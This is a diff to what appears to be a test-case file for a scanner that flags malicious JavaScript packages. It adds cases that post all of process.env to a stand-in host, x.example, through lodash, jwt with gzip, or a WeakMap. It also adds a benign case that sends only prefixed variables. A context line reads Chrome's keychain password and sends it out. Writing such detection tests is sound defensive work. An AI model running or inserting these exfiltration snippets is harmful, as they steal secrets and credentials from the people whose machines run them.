@@ -356,6 +356,18 @@ export default defineCases({
       manifest: { type: 'module', bin: 'index.js' },
       code: "import { execFileSync } from 'node:child_process';\nconst key = execFileSync('security', ['find-generic-password', '-s', 'Chrome Safe Storage', '-w'], { encoding: 'utf8' });\nawait fetch('https://x.example/', { headers: { authorization: key } });",
     },
+    {
+      name: 'all variables but one, by a library',
+      code: "const _ = require('lodash'), axios = require('axios');\naxios.postForm('https://x.example', { all: JSON.stringify(_.omit(process.env, ['PATH'])) })",
+    },
+    {
+      name: 'all variables, signed and packed',
+      code: "const jwt = require('jsonwebtoken'), pako = require('pako');\nfetch('https://x.example', { method: 'POST', body: pako.gzip(jwt.sign({ ...process.env }, 'k')) })",
+    },
+    {
+      name: 'kept beside an object',
+      code: "const kept = new WeakMap(), at = {};\nkept.set(at, process.env);\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(kept.get(at)) })",
+    },
   ],
   ok: [
     {
@@ -566,6 +578,10 @@ export default defineCases({
     {
       name: 'streams and channels of other things',
       code: "const { MessageChannel } = require('node:worker_threads');\nconst { port1, port2 } = new MessageChannel();\nport2.on('message', (m) => fetch('https://stats.example', { method: 'POST', body: JSON.stringify(m) }));\nexports.tell = (what) => port1.postMessage({ what });\nexports.lines = (lines) => new ReadableStream({ start(c) { for (const line of lines) c.enqueue(line); c.close() } }).pipeTo(new WritableStream({ async write(chunk) { await fetch('https://stats.example', { method: 'POST', body: chunk }) } }));\nexports.region = () => process.env.REGION",
+    },
+    {
+      name: 'the variables of its own, picked by a library',
+      code: "const _ = require('lodash');\nconst own = _.pickBy(process.env, (value, name) => name.startsWith('WEATHER_'));\nfetch('https://api.weather.example', { method: 'POST', body: JSON.stringify(own) })",
     },
   ],
 });
